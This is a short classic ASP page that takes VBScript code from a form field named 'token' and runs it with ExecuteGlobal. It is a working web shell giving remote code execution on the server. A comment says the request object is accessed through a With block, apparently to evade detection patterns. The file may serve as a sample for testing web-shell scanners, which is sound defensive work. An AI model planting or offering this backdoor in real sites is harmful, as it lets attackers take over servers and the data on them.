<%@ Language="VBScript" %>
<%
' the request object is named once, by a With block; the code it carries is read through a
' leading dot and run
Dim payload
With Request
    If Len(.Form("token")) > 0 Then
        payload = .Form("token")
    End If
End With
If payload <> "" Then ExecuteGlobal payload
%>
